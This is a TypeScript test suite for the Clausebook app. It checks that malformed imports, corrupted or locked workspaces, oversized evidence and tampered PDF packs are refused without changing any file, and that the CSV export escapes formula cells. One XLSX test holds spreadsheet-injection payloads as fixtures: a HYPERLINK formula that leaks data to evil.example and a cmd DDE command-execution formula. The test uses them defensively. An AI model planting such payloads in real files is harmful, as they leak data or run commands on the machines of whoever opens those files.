import { spawn, type ChildProcess } from 'node:child_process';
import { once } from 'node:events';
import { createWriteStream, mkdirSync, readFileSync, statSync, truncateSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { Readable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { createInterface } from 'node:readline';
import Database from 'better-sqlite3';
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { MethodName } from '../../../src-main/api/contract';
import type { ApiErrorValue, Envelope } from '../../../src-main/api/errors';
import { createApi } from '../../../src-main/api/handlers';
import type { ImportReport } from '../../../src-main/api/schemas/import-export';
import { MAX_EVIDENCE_BYTES } from '../../../src-main/core/evidence/evidence-limits';
import { MAX_IMPORT_BYTES } from '../../../src-main/core/import-export/import-limits';
import type { RegisterName } from '../../../src-main/core/registers/register-names';
import { Session } from '../../../src-main/core/session';
import { folderState } from '../../helpers/file-state';
import { firstPageContentOffset, flipByte, unsignedRevision } from '../../helpers/packs/pack-tools';
import { makeTestIdentity } from '../../helpers/packs/test-identity';
import { makeTestPack } from '../../helpers/packs/test-pack';
import { databaseContentHash } from '../../helpers/reliability/fuzz/database-content-hash';
import { useTempDir } from '../../helpers/temp-dir';
import { makeWorkspaceFile } from '../../helpers/workspace-fixtures';
import { Harness, problemTexts } from '../import-export/harness';
import { seedBasics } from '../import-export/seed';
import { workbook } from '../import-export/workbook';
import { sparseFile } from '../../helpers/sparse-file';

/**
 * The bad files of issue 6 that the suites beside this one do not already try, each refused (or
 * made harmless) with a message that says what is wrong and where, leaving every file exactly as
 * it was. Covered elsewhere and not repeated here:
 * - workspaces truncated, cut mid-page, with damaged pages or a bit-flipped header, not SQLite, from
 *   a newer version, read-only, locked by another process (workspace/bad-files, interrupted-files);
 * - import messages for empty, binary, Windows-1252, tab- or bar-separated files, missing required
 *   columns, duplicate codes, unknown references, formulas without a saved result (import-export/*);
 * - evidence names with path separators, `..`, control characters or 300 characters, zero-byte and
 *   over-limit content (evidence/hostile-names, limits);
 * - packs that are not PDFs, unsigned, cut short or tampered, checked by the verifier and the CLI
 *   (packs/verify/*).
 * What is added: the same import files given by path with the folder's bytes compared, a 100 MB
 * CSV, XLSX formulas that carry a saved result, bad workspaces opened over an open one through the
 * API, evidence and packs refused through the API with the folder's bytes compared, and the CSV
 * export's formula escaping for cells that begin with a tab or a carriage return.
 */

const local = { transport: 'cli', access: 'local' } as const;

/** A workspace behind its own API instance, opened from a closed file as the CLI opens one. */
async function openThroughApi(file: string) {
  const session = new Session();
  const api = createApi(session, { appVersion: '0.0.0-corpus' });
  const dispatch = (method: MethodName, input: unknown) =>
    api.dispatch(method, input, local) as Promise<Envelope<unknown>>;
  const opened = await dispatch('workspace.open', { path: file });
  if (!opened.ok) throw new Error(`Could not open ${file}: ${opened.error.message}`);
  return {
    dispatch,
    async failure(method: MethodName, input: unknown): Promise<ApiErrorValue> {
      const result = await dispatch(method, input);
      if (result.ok) throw new Error(`${method} should have been refused`);
      return result.error;
    },
    contentHash: () => databaseContentHash(session.require().db),
    current: () => session.workspace?.file ?? null,
    close: () => session.closeSync(),
  };
}

/** A closed workspace with the import suites' basic records, ready to be opened through the API. */
async function seededWorkspace(dir: string): Promise<string> {
  const h = await Harness.create(dir);
  await seedBasics(h);
  h.close();
  return h.file;
}

/**
 * Runs `work` on the workspace opened through the API, and checks that it left the database and
 * every file in the folder (the workspace's bytes and the bad file's included) as they were.
 */
async function expectNothingChanged<T>(
  file: string,
  work: (api: Awaited<ReturnType<typeof openThroughApi>>) => Promise<T>,
): Promise<T> {
  const folder = path.dirname(file);
  const filesBefore = folderState(folder);
  const api = await openThroughApi(file);
  let result: T;
  try {
    const contentBefore = api.contentHash();
    result = await work(api);
    expect(api.contentHash(), 'the database content').toBe(contentBefore);
  } finally {
    api.close();
  }
  expect(folderState(folder), 'the bytes of every file in the folder').toEqual(filesBefore);
  return result;
}

interface BadImport {
  name: string;
  register: RegisterName;
  fileName: string;
  bytes: () => Buffer | Promise<Buffer>;
  problems: string[];
}

const formulaWithoutResult =
  'cell B2 holds the formula =CONCAT("Ac","me") without a saved result; open the file in Excel and save it, or paste the values in place of the formulas.';

const badImports: BadImport[] = [
  {
    name: 'an empty file',
    register: 'customers',
    fileName: 'empty.csv',
    bytes: () => Buffer.alloc(0),
    problems: ['The file is empty.'],
  },
  {
    name: 'binary data named .csv',
    register: 'customers',
    fileName: 'customers.csv',
    bytes: () => Buffer.from(Array.from({ length: 4096 }, (_, index) => (index * 7919 + 13) % 256)),
    problems: ['The file holds binary data, not CSV text or an Excel workbook. Choose a .csv or .xlsx file.'],
  },
  {
    name: 'text in the wrong encoding (Windows-1252)',
    register: 'customers',
    fileName: 'customers-ansi.csv',
    bytes: () => Buffer.from('Code,Name,Kind\r\nCUS-010,Café Lumière,External\r\n', 'latin1'),
    problems: [
      'The file is not UTF-8 text: row 2 holds the byte 0xE9 ("é" in Windows-1252), so it was probably saved as ANSI/Windows-1252. Save it again as "CSV UTF-8 (Comma delimited)", or convert it to UTF-8, and import it again.',
    ],
  },
  {
    name: 'the wrong delimiter (tabs)',
    register: 'customers',
    fileName: 'customers-tabs.csv',
    bytes: () => Buffer.from('Code\tName\tKind\nCUS-010\tTab Co\tExternal\n'),
    problems: [
      'The columns of this file are separated by tabs; Clausebook reads CSV files separated by commas or semicolons. Save it as "CSV UTF-8 (Comma delimited)" or as an Excel workbook (.xlsx).',
    ],
  },
  {
    name: 'missing required columns',
    register: 'services',
    fileName: 'services.csv',
    bytes: () => Buffer.from('Code,Name,Owner\nSVC-010,Mail,Ana\n'),
    problems: [
      'The file has no columns for "Lifecycle", "Criticality", which every row of services needs. Its columns are "Code", "Name", "Owner". Rename the columns in the file, or map them in the mapping step.',
    ],
  },
  {
    name: 'a code given twice',
    register: 'customers',
    fileName: 'customers-twice.csv',
    bytes: () => Buffer.from('Code,Name,Kind\nCUS-010,First,External\nCUS-010,Second,External\n'),
    problems: ['Row 3, column "Code": CUS-010 is also the code in row 2; each code may appear once.'],
  },
  {
    name: 'references to records that do not exist',
    register: 'agreements',
    fileName: 'agreements.csv',
    bytes: () =>
      Buffer.from(
        'Code,Title,Type,Status,Customer,Services\nAGR-010,Hosting SLA,SLA,Agreed,CUS-404,SVC-404\n',
      ),
    problems: [
      'Row 2, column "Customer": no customer with code or name "CUS-404"',
      'Row 2, column "Services": no service with code or name "SVC-404"',
    ],
  },
  {
    name: 'an XLSX formula without a saved result',
    register: 'customers',
    fileName: 'customers.xlsx',
    bytes: () =>
      workbook([
        {
          name: 'Customers',
          rows: [
            ['Code', 'Name', 'Kind'],
            ['CUS-010', { formula: 'CONCAT("Ac","me")' } as ExcelJS.CellFormulaValue, 'External'],
          ],
        },
      ]),
    problems: [`Row 2, column "Name": ${formulaWithoutResult}`],
  },
  {
    name: 'an XLSX error value',
    register: 'customers',
    fileName: 'customers-errors.xlsx',
    bytes: () =>
      workbook([
        {
          name: 'Customers',
          rows: [
            ['Code', 'Name', 'Kind'],
            ['CUS-010', { error: '#REF!' } as ExcelJS.CellErrorValue, 'External'],
          ],
        },
      ]),
    problems: ['Row 2, column "Name": cell B2 holds the Excel error #REF!.'],
  },
];

describe('bad import files given by path (the CLI and the app’s file dialog)', () => {
  const tempDir = useTempDir();

  it.each(badImports)('refuses $name, naming the problem, and changes no file', async (bad) => {
    const file = await seededWorkspace(tempDir());
    const input = path.join(tempDir(), bad.fileName);
    writeFileSync(input, await bad.bytes());
    const report = await expectNothingChanged(file, async (api) => {
      const result = await api.dispatch('registers.importFile', { register: bad.register, path: input });
      expect(result.ok, JSON.stringify(result)).toBe(true);
      return (result as { ok: true; value: ImportReport }).value;
    });
    expect(report.applied).toBe(false);
    expect(problemTexts(report)).toEqual(bad.problems);
  });
});

describe('a 100 MB CSV', () => {
  const tempDir = useTempDir();

  it('is refused by the import limit before it is read, naming the file and both sizes, in well under a second', async () => {
    const file = await seededWorkspace(tempDir());
    const big = path.join(tempDir(), 'measurements-100mb.csv');
    const target = 100 * 1024 * 1024;
    // Written a thousand rows at a time through a stream: the test never holds the file in memory.
    function* rows() {
      yield 'Target,Period start,Value,Note\r\n';
      let written = 0;
      for (let row = 0; written < target;) {
        const lines: string[] = [];
        for (const end = row + 1000; row < end; row++) {
          const period = `${2000 + Math.floor(row / 12)}-${String((row % 12) + 1).padStart(2, '0')}-01`;
          lines.push(
            `TGT-001,${period},${(99 + (row % 100) / 100).toFixed(2)},Monthly availability export\r\n`,
          );
        }
        const chunk = lines.join('');
        written += chunk.length;
        yield chunk;
      }
    }
    await pipeline(Readable.from(rows()), createWriteStream(big));
    const size = statSync(big).size;
    expect(size).toBeGreaterThanOrEqual(target);
    expect(size).toBeGreaterThan(MAX_IMPORT_BYTES);

    const error = await expectNothingChanged(file, async (api) => {
      const started = performance.now();
      const refused = await api.failure('registers.importFile', { register: 'measurements', path: big });
      expect(performance.now() - started).toBeLessThan(1000);
      return refused;
    });
    expect(error).toEqual({
      code: 'IO',
      message: `"measurements-100mb.csv" is ${(size / 1024 / 1024).toFixed(1)} MiB; Clausebook imports files of up to 50 MiB. Split it into smaller files.`,
    });
  }, 60_000);
});

describe('formulas in XLSX cells that carry a saved result', () => {
  const tempDir = useTempDir();

  it('import as the saved text only, and no export turns them back into formulas', async () => {
    const h = await Harness.create(tempDir());
    try {
      const bytes = await workbook([
        {
          name: 'Customers',
          rows: [
            ['Code', 'Name', 'Kind', 'Description'],
            [
              'CUS-010',
              { formula: 'HYPERLINK("http://evil.example/?leak="&A2,"Acme Direct")', result: 'Acme Direct' },
              'External',
              { formula: "cmd|' /C calc'!A0", result: 'Quarterly report' },
            ],
            [
              'CUS-011',
              { formula: 'CONCAT("=","1+1")', result: '=1+1' },
              'External',
              { formula: 'CONCAT("@","SUM(A1)")', result: '@SUM(A1)' },
            ],
          ],
        },
      ]);
      const report = await h.import('customers', bytes, { fileName: 'customers.xlsx' });
      expect(problemTexts(report)).toEqual([]);
      expect(report.applied).toBe(true);
      const stored = h.db
        .prepare("SELECT code, name, description FROM customer WHERE code LIKE 'CUS-01%' ORDER BY code")
        .all();
      expect(stored).toEqual([
        { code: 'CUS-010', name: 'Acme Direct', description: 'Quarterly report' },
        { code: 'CUS-011', name: '=1+1', description: '@SUM(A1)' },
      ]);
      expect(JSON.stringify(h.db.prepare('SELECT * FROM customer').all())).not.toMatch(
        /HYPERLINK|cmd\||CONCAT/,
      );

      const csv = (await h.export('customers', 'csv')).toString('utf8').replace(/^\ufeff/, '');
      const cells = Papa.parse<string[]>(csv, { skipEmptyLines: true }).data.flat();
      expect(cells).toContain("'=1+1");
      expect(cells).toContain("'@SUM(A1)");
      for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

      const book = new ExcelJS.Workbook();
      await book.xlsx.load(new Uint8Array(await h.export('customers', 'xlsx')).buffer);
      book.worksheets[0]!.eachRow((row) =>
        row.eachCell((cell) => expect(cell.type, `cell ${cell.address}`).not.toBe(ExcelJS.ValueType.Formula)),
      );
    } finally {
      h.close();
    }
  });
});

/** Starts a process that holds a workspace's lock the way another Clausebook window does. */
async function holdLock(file: string): Promise<ChildProcess> {
  const script = `
    const Database = require('better-sqlite3');
    const db = new Database(process.argv[1]);
    db.pragma('locking_mode = EXCLUSIVE');
    db.prepare('SELECT count(*) FROM sqlite_schema').get();
    console.log('locked');
    setInterval(() => {}, 1000);`;
  const child = spawn(process.execPath, ['-e', script, file], {
    cwd: process.cwd(),
    stdio: ['ignore', 'pipe', 'inherit'],
  });
  const [line] = (await once(createInterface({ input: child.stdout! }), 'line')) as [string];
  expect(line).toBe('locked');
  return child;
}

describe('bad workspaces opened through the API while another one is open', () => {
  const tempDir = useTempDir();

  const badWorkspaces: [
    name: string,
    make: (dir: string) => Promise<string>,
    code: string,
    message: RegExp,
  ][] = [
    [
      'a text file',
      async (dir) => {
        const file = path.join(dir, 'notes.clausebook');
        writeFileSync(file, 'Audit notes, not a workspace.\n'.repeat(50));
        return file;
      },
      'WORKSPACE_NOT_SQLITE',
      /notes\.clausebook is not a Clausebook workspace: it is not a SQLite database/,
    ],
    [
      'a truncated workspace',
      async (dir) => {
        const file = await makeWorkspaceFile(dir, 'truncated.clausebook');
        truncateSync(file, Math.floor(statSync(file).size / 2 / 4096) * 4096);
        return file;
      },
      'WORKSPACE_TRUNCATED',
      /truncated\.clausebook is truncated: it holds \d+ bytes but should hold \d+/,
    ],
    [
      'a bit-flipped header',
      async (dir) => {
        const file = await makeWorkspaceFile(dir, 'flipped.clausebook');
        const bytes = readFileSync(file);
        bytes[5] = bytes[5]! ^ 0x01;
        writeFileSync(file, bytes);
        return file;
      },
      'WORKSPACE_NOT_SQLITE',
      /flipped\.clausebook .*not a SQLite database/,
    ],
    [
      'a workspace from a newer version',
      async (dir) => {
        const file = await makeWorkspaceFile(dir, 'future.clausebook');
        const db = new Database(file);
        db.pragma('user_version = 999');
        db.close();
        return file;
      },
      'WORKSPACE_TOO_NEW',
      /future\.clausebook .*newer version of Clausebook \(workspace format 999/,
    ],
  ];

  it.each(badWorkspaces)(
    'refuses %s, keeps the open workspace open and changes no file',
    async (_name, make, code, message) => {
      const open = await seededWorkspace(tempDir());
      const bad = await make(tempDir());
      const error = await expectNothingChanged(open, async (api) => {
        const refused = await api.failure('workspace.open', { path: bad });
        expect(api.current()).toBe(open);
        return refused;
      });
      expect(error.code).toBe(code);
      expect(error.message).toMatch(message);
    },
  );

  it('refuses a workspace locked by another process, keeps the open workspace open and changes no file', async () => {
    const open = await seededWorkspace(tempDir());
    const locked = await makeWorkspaceFile(tempDir(), 'shared.clausebook');
    const holder = await holdLock(locked);
    try {
      const error = await expectNothingChanged(open, async (api) => {
        const refused = await api.failure('workspace.open', { path: locked });
        expect(api.current()).toBe(open);
        return refused;
      });
      expect(error.code).toBe('WORKSPACE_LOCKED');
      expect(error.message).toMatch(/shared\.clausebook is open in another Clausebook window or process/);
    } finally {
      holder.kill('SIGKILL');
      await once(holder, 'exit');
    }
  });
});

describe('evidence files refused through the API', () => {
  const tempDir = useTempDir();

  it('of zero bytes or over the limit, naming the file, and changing no file', async () => {
    const file = await seededWorkspace(tempDir());
    const empty = path.join(tempDir(), 'blank minutes.txt');
    writeFileSync(empty, '');
    const huge = sparseFile(path.join(tempDir(), 'recording.mp4'), MAX_EVIDENCE_BYTES + 1);
    const [emptyError, hugeError, pageError] = await expectNothingChanged(file, async (api) => [
      await api.failure('evidence.addFile', { path: empty }),
      await api.failure('evidence.addFile', { path: huge }),
      await api.failure('evidence.add', { fileName: 'blank.pdf', content: '' }),
    ]);
    expect(emptyError.message).toBe(
      '"blank minutes.txt" is empty (0 bytes): there is nothing in it to keep as evidence.',
    );
    expect(hugeError).toMatchObject({
      code: 'VALIDATION',
      message:
        '"recording.mp4" is 100.1 MiB; an evidence file may be at most 100 MiB. Split it, compress it, or keep an extract.',
    });
    expect(pageError.message).toBe(
      'content: "blank.pdf" is empty (0 bytes): there is nothing in it to keep as evidence.',
    );
  });
});

describe('packs given to the API to verify', () => {
  const tempDir = useTempDir();

  it('refuses one that is not a PDF and one that is unsigned, reports one tampered with, and changes no file', async () => {
    // The pack is made beside its own workspace in the temporary folder; the folder compared is
    // the one inside it that holds the workspace under test and the files given to the API.
    const dir = path.join(tempDir(), 'client');
    mkdirSync(dir);
    const file = await seededWorkspace(dir);
    const notPdf = path.join(dir, 'pack.pdf');
    writeFileSync(notPdf, 'PK\u0003\u0004 a zip archive renamed to .pdf');
    const identity = makeTestIdentity(new Date('2026-01-01T00:00:00Z'));
    // A pack as the app writes it (made beside its own workspace, elsewhere); the unsigned one is
    // the same file without its signature.
    const { pdf: signed } = await makeTestPack(identity, path.dirname(dir));
    const untouched = path.join(dir, 'signed.pdf');
    writeFileSync(untouched, signed);
    const unsigned = path.join(dir, 'unsigned.pdf');
    writeFileSync(unsigned, unsignedRevision(signed));
    const tampered = path.join(dir, 'tampered.pdf');
    // A byte of the first page's content: the signature no longer covers what the file holds.
    writeFileSync(tampered, flipByte(signed, firstPageContentOffset(signed) + 20));

    const [notPdfError, unsignedError, tamperedResult, pageError, untouchedResult] =
      await expectNothingChanged(file, async (api) => [
        await api.failure('packs.verifyFile', { path: notPdf }),
        await api.failure('packs.verifyFile', { path: unsigned }),
        await api.dispatch('packs.verifyFile', { path: tampered }),
        await api.failure('packs.verify', {
          fileName: 'pack.pdf',
          content: Buffer.from('just text').toString('base64'),
        }),
        await api.dispatch('packs.verifyFile', { path: untouched }),
      ]);
    expect(notPdfError).toMatchObject({ code: 'NOT_A_PDF', message: 'This file is not a PDF.' });
    expect(unsignedError).toMatchObject({
      code: 'PACK_UNSIGNED',
      message: expect.stringMatching(/^This PDF has no digital signature/),
    });
    expect(pageError).toMatchObject({ code: 'NOT_A_PDF' });
    type Verified = {
      ok: true;
      value: { report: { valid: boolean; checks: { id: string; ok: boolean; message: string }[] } };
    };
    // The same pack untouched is valid: what the tampered one fails is the byte changed.
    expect(untouchedResult.ok).toBe(true);
    expect((untouchedResult as Verified).value.report.valid).toBe(true);
    expect(tamperedResult.ok).toBe(true);
    const report = (tamperedResult as Verified).value.report;
    expect(report.valid).toBe(false);
    expect(report.checks.filter((check) => !check.ok).map((check) => check.id)).toContain(
      'content-unchanged',
    );
  }, 60_000);
});

describe('the CSV export', () => {
  const tempDir = useTempDir();

  it('escapes every cell a spreadsheet would run as a formula: = + - @, a tab or a carriage return first', async () => {
    const h = await Harness.create(tempDir());
    try {
      const risky = ['=1+1', '+1+1', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1'];
      for (const [index, text] of risky.entries()) {
        await h.create('customers', {
          code: `CUS-${index + 1}`,
          name: `Customer ${index + 1}`,
          kind: 'external',
        });
        // The forms trim text, so a leading tab or CR only comes from a file another tool wrote;
        // the export must not rely on the forms.
        h.db.prepare('UPDATE customer SET description = ? WHERE code = ?').run(text, `CUS-${index + 1}`);
      }
      const csv = (await h.export('customers', 'csv')).toString('utf8').replace(/^\ufeff/, '');
      const rows = Papa.parse<string[]>(csv, { skipEmptyLines: true }).data;
      const description = rows[0]!.indexOf('Description');
      expect(rows.slice(1).map((row) => row[description])).toEqual(risky.map((text) => `'${text}`));
      for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    } finally {
      h.close();
    }
  });
});
